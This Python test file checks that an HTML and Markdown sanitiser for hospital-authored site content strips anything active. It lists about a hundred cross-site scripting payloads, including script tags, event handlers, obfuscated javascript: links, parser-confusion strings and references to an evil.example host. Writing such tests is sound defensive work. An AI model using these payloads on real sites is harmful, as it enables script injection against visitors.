"""Markup that people at hospitals wrote can do nothing: what comes out is on the allow-list, tag by tag."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import strategies as st
from properties import holds_for

from generator.site.render.sanitise import ATTRIBUTES, SCHEMES, TAGS, SafeHtml, render_markdown, sanitise, sanitise_page

ATTACKS = [
    # script
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<p onclick=alert(1)>甲</p>",
    "<a href=a.md onmouseover=alert(1)>甲</a>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>甲</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<table background=javascript:alert(1)><td onclick=alert(1)>甲</td></table>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img \x00src=x \x0conerror=alert(1)>",
    # addresses that are code
    "<a href=javascript:alert(1)>甲</a>",
    "<a href=' javascript:alert(1)'>甲</a>",
    "<a href='java\nscript:alert(1)'>甲</a>",
    "<a href='java\tscript:alert(1)'>甲</a>",
    "<a href='&#106;avascript:alert(1)'>甲</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>甲</a>",
    "<a href='\x01javascript:alert(1)'>甲</a>",
    "<a href=JaVaScRiPt:alert(1)>甲</a>",
    "<a href=vbscript:msgbox(1)>甲</a>",
    "<a href=data:text/html,<script>alert(1)</script>>甲</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>甲</a>",
    "<a href=file:///etc/passwd>甲</a>",
    "<a href=blob:https://evil.example/1>甲</a>",
    "<a xlink:href=javascript:alert(1)>甲</a>",
    "<a href=a.md target=_blank ping=//evil.example>甲</a>",
    "[甲](javascript:alert(1))",
    "[甲](JAVASCRIPT&#58;alert(1))",
    "[甲](<java\tscript:alert(1)>)",
    "[甲](data:text/html,x)",
    "![甲](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[甲][x]\n\n[x]: javascript:alert(1)",
    "[甲](a.md \"' onmouseover=alert(1) '\")",
    # style and layout
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>甲</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<p class=site-header id=search>甲</p>",
    "<div hidden>甲</div>",
    # frames, forms, bases, refreshes
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<form><input name=attributes></form><button formaction=javascript:alert(1)>甲</button>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<dialog open>甲</dialog>",
    "<portal src=//evil.example></portal>",
    # pictures from elsewhere
    "<img src=https://evil.example/x.png>",
    "<img src=//evil.example/x.png>",
    "<img src=' //evil.example/x.png'>",
    "<img src='\t//evil.example/x.png'>",
    "<img src='/\t/evil.example/x.png'>",
    "<img src='/\\evil.example/x.png'>",
    "<img src='\\\\evil.example\\x.png'>",
    "<img src='\\/evil.example/x.png'>",
    "<img src='ht\ntps://evil.example/x.png'>",
    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<img srcset='//evil.example/x.png 2x' src=a.png>",
    "<picture><source srcset=//evil.example/x.png><img src=a.png></picture>",
    "<video poster=//evil.example/x.png></video>",
    "<audio src=//evil.example/x.mp3></audio>",
    "![甲](https://evil.example/x.png)",
    "![甲](//evil.example/x.png)",
    "![甲](/\\evil.example/x.png)",
    "<svg><image href=//evil.example/x.png /></svg>",
    # parsers that disagree
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<a title='&quot;><img src=x onerror=alert(1)>'>甲</a>",
    "<p title=`x onclick=alert(1)`>甲</p>",
    '<abbr title="x" title="><script>alert(1)</script>">甲</abbr>',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "甲 { onclick=alert(1) }\n{: onclick=alert(1) }",
]


HARMLESS = {"title", "lang", "rel"}
"""Attributes that nh3 keeps or adds everywhere; they cannot act."""


class Alive(HTMLParser):
    """What of a text is neither words nor on the allow-list."""

    def __init__(self, allowed: dict[str, set[str]]) -> None:
        super().__init__()
        self._allowed = allowed
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in self._allowed.get(tag, set()) | HARMLESS:
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src") and not _is_harmless(tag, value or ""):
                self.found.append(f'<{tag} {name}="{value}">')

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}]>")


def _is_harmless(tag: str, address: str) -> bool:
    """As a browser reads it: without tabs and line breaks, without blanks around it, with slashes for backslashes."""
    seen = re.sub(r"[\t\n\r]", "", address).strip("".join(map(chr, range(33)))).replace("\\", "/")
    parts = urlsplit(seen)
    if tag == "img":
        return not parts.scheme and not seen.startswith("//")
    return parts.scheme in {"", *SCHEMES}


def alive(html: SafeHtml, *, page: bool = False) -> list[str]:
    """What would still act in a browser."""
    ids = {f"h{level}": {"id"} for level in range(1, 7)} if page else {}
    reader = Alive({**ATTRIBUTES, **ids})
    reader.feed(html.__html__())
    reader.close()
    return reader.found


def test_there_are_many_attacks() -> None:
    """And all of them are different."""
    assert len(set(ATTACKS)) == len(ATTACKS) >= 90


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_alive(attack: str) -> None:
    """Neither through Markdown nor as markup, nor in a page of prose, nor on a second pass."""
    table = f"| {attack} |\n|---|\n| {attack} |"
    for text in (attack, f"甲 {attack} 乙", f"- {attack}", f"> {attack}", table):
        html = render_markdown(text)
        assert alive(html) == []
        assert alive(sanitise(html.__html__())) == []
    assert alive(sanitise(attack)) == []
    assert alive(sanitise_page(attack), page=True) == []


FRAGMENTS = [
    "<", ">", "/", "'", '"', "`", "=", " ", "\n", "<!--", "-->", "<![CDATA[", "&", "&#58;", "javascript:", "on",
    "error", "img", "svg", "math", "style", "title", "script", "a", "p", "table", "src", "href", "x", "![", "](", ")",
    "[", "\x00",
]  # fmt: skip


@holds_for(st.lists(st.sampled_from(FRAGMENTS), max_size=25).map("".join), examples=400)
def test_no_mixture_is_alive(text: str) -> None:
    """Nor what nobody thought of."""
    assert alive(render_markdown(text)) == []
    assert alive(sanitise(text)) == []
    assert alive(sanitise_page(text), page=True) == []


# --- what stays


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**甲**、*乙*", "<p><strong>甲</strong>、<em>乙</em></p>"),
        ("[甲](about.md)", '<p><a href="about.md" rel="noopener noreferrer">甲</a></p>'),
        ("[甲](tel:0000-611-0001)", '<p><a href="tel:0000-611-0001" rel="noopener noreferrer">甲</a></p>'),
        ("![图](map.png)", '<p><img alt="图" src="map.png"></p>'),
        ("# 一", "<h3>一</h3>"),
        ("## 二", "<h3>二</h3>"),
        ("### 三", "<h4>三</h4>"),
        ("###### 六", "<h6>六</h6>"),
        ("#话题", "<p>#话题</p>"),
        ("一\n===", "<h3>一</h3>"),
        ("<h1>一</h1>", "<h3>一</h3>"),
        ("1. 甲\n2. 乙", "<ol>\n<li>甲</li>\n<li>乙</li>\n</ol>"),
        ("3. 甲", '<ol start="3">\n<li>甲</li>\n</ol>'),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>"),
    ],
)
def test_prose_is_rendered(markdown: str, html: str) -> None:
    """Headings begin below those of the page."""
    assert render_markdown(markdown).__html__() == html


def test_a_table_keeps_its_columns() -> None:
    """Their alignment is an attribute, for a style would be taken out."""
    assert 'align="right"' in render_markdown("| 甲 |\n|---:|\n| 1 |").__html__()


def test_only_pages_of_prose_keep_the_ids_of_headings() -> None:
    """Links lead to them; an id in a record could take the place of one of ours."""
    assert sanitise_page('<h2 id="x" class="y">甲</h2>').__html__() == '<h2 id="x">甲</h2>'
    assert sanitise_page('<p id="x">甲</p>').__html__() == "<p>甲</p>"
    assert sanitise('<h2 id="x">甲</h2>').__html__() == "<h2>甲</h2>"


def test_nobody_else_makes_safe_html() -> None:
    """Neither with a key of one's own nor with none, nor by changing what is there."""
    with pytest.raises(TypeError):
        SafeHtml("<script>", object())
    with pytest.raises(TypeError):
        SafeHtml("<script>", None)
    safe = sanitise("<b>甲</b>")
    with pytest.raises(AttributeError):
        safe.html = "<script>"  # type: ignore[attr-defined]
    with pytest.raises(AttributeError):
        safe.__html__ = lambda: "<script>"  # type: ignore[method-assign]


def test_the_allow_list_holds_nothing_that_acts() -> None:
    """No script, no style, no frame, no form; no class, id, style or event anywhere."""
    acting = {
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "svg",
        "math",
        "base",
        "link",
        "meta",
    }
    assert not acting & TAGS
    for names in ATTRIBUTES.values():
        assert not {"class", "id", "style", "srcset", "target"} & names
        assert not any(name.startswith("on") for name in names)
